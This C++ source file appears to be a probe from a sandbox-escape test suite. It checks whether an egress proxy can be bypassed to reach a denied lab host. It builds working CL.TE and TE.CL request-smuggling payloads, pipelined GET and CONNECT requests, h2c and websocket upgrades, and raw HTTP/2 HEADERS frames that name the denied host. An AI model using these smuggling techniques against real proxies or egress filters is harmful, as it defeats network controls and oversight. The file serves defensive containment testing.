// proxy.smuggling — requests a proxy may parse differently from what it
// forwards: CL.TE and TE.CL desyncs and a pipelined GET (a second request to
// the denied host hidden behind an allowed one), a second CONNECT pipelined
// after an allowed CONNECT, and Upgrade: h2c / websocket requests aimed at the
// denied host, plus an h2c upgrade on the allowed host whose HTTP/2 HEADERS
// name the denied one. Only the hidden requests carry the tag. Without a
// proxy, the same bytes go straight to the denied address.
#include "../../lab/lab_plan.hpp"
#include "../probe.hpp"
#include "../support/proxy.hpp"
#include "../support/tls.hpp"

#include <cstdio>

namespace lab = bottle::escape::lab;
namespace support = bottle::escape::probe::support;
namespace tls = bottle::escape::probe::support::tls;

namespace {

std::string hex(std::size_t n) {
    char b[16];
    std::snprintf(b, sizeof b, "%zx", n);
    return b;
}

// HTTP/2 frame: 24-bit length, type, flags, stream id.
std::string h2_frame(unsigned type, unsigned flags, unsigned stream, const std::string& payload) {
    std::string f;
    f += static_cast<char>((payload.size() >> 16) & 0xff);
    f += static_cast<char>((payload.size() >> 8) & 0xff);
    f += static_cast<char>(payload.size() & 0xff);
    f += static_cast<char>(type);
    f += static_cast<char>(flags);
    f += static_cast<char>((stream >> 24) & 0x7f);
    f += static_cast<char>((stream >> 16) & 0xff);
    f += static_cast<char>((stream >> 8) & 0xff);
    f += static_cast<char>(stream & 0xff);
    return f + payload;
}

// HPACK literal (without indexing) with an indexed name; values < 127 bytes.
std::string hpack_literal(unsigned name_index, const std::string& value) {
    std::string s;
    s += static_cast<char>(name_index & 0x0f);
    s += static_cast<char>(value.size());
    return s + value;
}

}  // namespace

BOTTLE_PROBE(proxy_smuggling, "proxy.smuggling",
             "CL.TE / TE.CL desync, pipelined GET and CONNECT, h2c and websocket upgrades toward the denied host",
             bottle::escape::probe::scoring::sink) {
    const auto px = support::proxy_under_test(rep);
    if (!px) return;
    const std::string allowed(lab::allowed_name), denied(lab::denied_name);
    const std::string auth = px ? support::proxy_auth_header(*px) : std::string();
    const std::string hidden = "GET http://" + denied + "/" + ctx.tag + " HTTP/1.1\r\nHost: " + denied + "\r\nX-Bbx-Tag: " + ctx.tag +
                               "\r\n" + auth + "\r\n";
    const std::string cover = "POST http://" + allowed + "/ HTTP/1.1\r\nHost: " + allowed + "\r\n" + auth;
    // CL.TE: Content-Length covers the hidden request; chunked ends before it.
    const std::string clte_body = "0\r\n\r\n" + hidden;
    const std::string clte = cover + "Content-Length: " + std::to_string(clte_body.size()) +
                             "\r\nTransfer-Encoding: chunked\r\n\r\n" + clte_body;
    // TE.CL: the chunk holds the hidden request; Content-Length stops before it.
    const std::string chunk = hex(hidden.size()) + "\r\n" + hidden + "\r\n0\r\n\r\n";
    const std::string tecl = cover + "Content-Length: " + std::to_string(hex(hidden.size()).size() + 2) +
                             "\r\nTransfer-Encoding: chunked\r\n\r\n" + chunk;
    const std::string pipelined = "GET http://" + allowed + "/ HTTP/1.1\r\nHost: " + allowed + "\r\n" + auth + "\r\n" + hidden;
    const std::string h2c_denied = "GET http://" + denied + "/" + ctx.tag + " HTTP/1.1\r\nHost: " + denied +
                                   "\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n" +
                                   auth + "\r\n";
    const std::string ws_denied = "GET http://" + denied + "/" + ctx.tag + " HTTP/1.1\r\nHost: " + denied +
                                  "\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
                                  "Sec-WebSocket-Key: YmJ4LXByb2JlLWtleS0wMQ==\r\n" + auth + "\r\n";
    std::vector<std::function<support::hop_result()>> jobs;
    struct blob {
        const char* label;
        const std::string* bytes;
    };
    const blob blobs[] = {{"CL.TE desync", &clte}, {"TE.CL desync", &tecl}, {"pipelined GET", &pipelined},
                          {"Upgrade: h2c toward denied", &h2c_denied}, {"Upgrade: websocket toward denied", &ws_denied}};
    for (const auto& b : blobs) {
        jobs.emplace_back([&px, b] {
            auto h = px ? support::proxy_send(*px, *b.bytes, 1500)
                        : support::direct(lab::internet_v4, 80, *b.bytes, 1500, "denied address");
            h.action = std::string(b.label) + ": " + h.action;
            return h;
        });
    }
    // A second CONNECT pipelined behind an allowed one, then a ClientHello for the denied host.
    jobs.emplace_back([&] {
        support::hop_result h;
        const std::string two = "CONNECT " + allowed + ":443 HTTP/1.1\r\nHost: " + allowed + ":443\r\n" + auth + "\r\nCONNECT " +
                                denied + ":443 HTTP/1.1\r\nHost: " + denied + ":443\r\n" + auth + "\r\n";
        const std::string ip = px ? px->ip : std::string(lab::internet_v4);
        const std::uint16_t port = px ? px->port : 443;
        h.action = "pipelined CONNECT: tcp connect " + (px ? px->where() : ip + ":443 (denied address, direct)") +
                   ", CONNECT " + allowed + ":443 + CONNECT " + denied + ":443, then ClientHello SNI " + denied;
        support::tcp_stream s;
        if (!s.open(ip, port, 500)) {
            h.outcome = s.error();
            return h;
        }
        if (!s.send_all(two, 400)) {
            h.outcome = "connected; " + s.error();
            return h;
        }
        h.reply = s.read(600, "\r\n\r\n");
        h.reply += s.read(300);
        const auto st = support::parse_status(h.reply);
        const bool go = px ? (st.valid && st.code / 100 == 2) : true;
        if (go && s.send_all(tls::client_hello(denied, ctx.tag), 400)) {
            h.reached = true;
            h.reply += s.read(500);
        }
        h.outcome = (st.valid ? "first answer: " + st.line : std::string("no HTTP answer")) +
                    (h.reached ? "; ClientHello sent" : "; ClientHello not sent") + ", " + std::to_string(h.reply.size()) + " bytes back";
        return h;
    });
    // h2c upgrade on the allowed host, then HTTP/2 HEADERS whose :authority is the denied host.
    jobs.emplace_back([&] {
        support::hop_result h;
        const std::string up = "GET http://" + allowed + "/ HTTP/1.1\r\nHost: " + allowed +
                               "\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n" +
                               auth + "\r\n";
        const std::string ip = px ? px->ip : std::string(lab::internet_v4);
        const std::uint16_t port = px ? px->port : 80;
        h.action = "h2c upgrade via " + (px ? px->where() : ip + ":80 (denied address, direct)") + " on " + allowed +
                   ", then HTTP/2 HEADERS :authority " + denied + " :path /<tag>";
        support::tcp_stream s;
        if (!s.open(ip, port, 500)) {
            h.outcome = s.error();
            return h;
        }
        if (!s.send_all(up, 400)) {
            h.outcome = "connected; " + s.error();
            return h;
        }
        h.reply = s.read(700, "\r\n\r\n");
        const auto st = support::parse_status(h.reply);
        h.outcome = st.valid ? "upgrade answer: " + st.line : "no HTTP answer";
        if (!px || (st.valid && st.code == 101)) {
            const std::string headers = std::string("\x82\x86", 2) + hpack_literal(4, "/" + ctx.tag) + hpack_literal(1, denied);
            const std::string frames = std::string("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n") + h2_frame(4, 0, 0, "") +
                                       h2_frame(1, 0x5, 1, headers);
            h.reached = s.send_all(frames, 400);
            h.reply += s.read(500);
            h.outcome += h.reached ? "; HTTP/2 preface and HEADERS sent" : "; send failed: " + s.error();
        } else {
            h.outcome += "; not upgraded, HEADERS not sent";
        }
        return h;
    });
    support::record_all(rep, jobs);
}
